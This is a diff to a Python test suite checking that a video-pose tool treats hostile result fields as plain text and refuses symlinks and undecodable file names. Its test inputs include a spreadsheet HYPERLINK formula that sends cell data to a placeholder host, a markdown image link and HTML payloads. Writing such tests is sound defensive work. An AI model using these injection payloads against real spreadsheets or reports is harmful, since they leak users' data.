@@ -211,7 +211,8 @@ def test_a_pickle_in_place_of_a_network_that_judges(shared: Path, call_main, nam
 
 
 @pytest.mark.parametrize(
-    "hostile", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", HTML, "| a | b |\n# c"]
+    "hostile",
+    ['=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", HTML, "| a | b |\n# c", "![a](http://x/y.png)"],
 )
 def test_formulas_and_html_in_a_result_are_text(shared: Path, call_main, hostile: str) -> None:
     edit(shared / "scores.json", method=hostile, benchmark=hostile, command=hostile, hardware=hostile)
@@ -229,6 +230,9 @@ def test_formulas_and_html_in_a_result_are_text(shared: Path, call_main, hostile
     for tag in ("<script>open", "<img src=x"):
         assert tag not in markdown and tag not in page
     assert not any(line.startswith("# c") for line in markdown.splitlines())
+    # The command alone stands in a block of code, where nothing is a link.
+    cards = [path.read_text().replace(f"```\n{hostile}", "") for path in report.rglob("cards/*/*.md")]
+    assert cards and not any(re.search(r"(?<!\\)\]\(http", text) for text in (markdown, *cards))
     assert_nothing_happened(shared)
 
 
@@ -353,6 +357,19 @@ def test_names_in_a_manifest_lead_nowhere(shared: Path, call_main, name: str) ->
     assert not (shared.parent / "x").exists() and not Path("/x").exists()
 
 
+def test_names_that_no_record_can_hold_are_refused_before_the_work(shared: Path, call_main) -> None:
+    """Bytes that are no UTF-8, where no command line names them: what was written with them nothing could read."""
+    for side in ("clips", "real"):
+        (shared / side).mkdir()
+        shutil.copy(shared / "clip.mp4", os.fsencode(shared / side) + b"/\xff.mp4")
+    options = ("dataset=folder", "dataset.root=clips", "pose=file", "pose.path=clip.npz", "data.resolution=64")
+    assert "\\udcff.mp4 is not in UTF-8" in refused(call_main, Command("prepare", options))
+    assert not (shared / "data/clips_001").exists()
+    score = Command("score", ("generated=clips", "real=real", "metrics=[ssim]", "output=new.json"))
+    assert "\\udcff.mp4 is not in UTF-8" in refused(call_main, score)
+    assert not (shared / "new.json").exists()
+
+
 def test_a_run_does_not_say_where_it_is_repeated(shared: Path, call_main) -> None:
     """Neither the run, nor its fine-tune for others, nor what is prepared."""
     theirs = {"run_dir": "../theirs/run", "fine_tune_cache": str(shared.parent / "theirs/cache")}
@@ -375,6 +392,20 @@ def test_a_link_in_a_run_leads_no_sample_out(shared: Path, call_main, name: str)
     line = refused(call_main, Command("sample", ("run=run", "poses=clip.npz", "sampling.window_frames=3")))
     assert f"run/{name} is a link, which is not followed: remove it" in line
     assert not list((shared / "theirs").iterdir())
+
+
+@pytest.mark.parametrize("place", [".old", ".old/csv", ".old/csv/metrics.csv"])
+def test_a_link_in_what_was_moved_aside_leads_nothing_in_or_out(tmp_path: Path, place: str) -> None:
+    """What a killed writer had moved aside is put back behind the look for links, from wherever it seems to be."""
+    run, theirs = tmp_path / "run", tmp_path / "theirs"
+    theirs.mkdir()
+    (theirs / "secret").write_text(SECRET)
+    link = run / f".posecrafter-00000000-1-1-00000000{place}"
+    link.parent.mkdir(parents=True)
+    link.symlink_to(theirs)
+    with RunFolder(run).only_writer():
+        assert not (run / "csv").exists() and not (run / "secret").exists()
+    assert (theirs / "secret").read_text() == SECRET and link.is_symlink()
 
 
 WRITTEN_BY_A_RUN = (".lock", "config.yaml", "checkpoints", "unfinished", "csv", "tensorboard", "wandb", "preview")
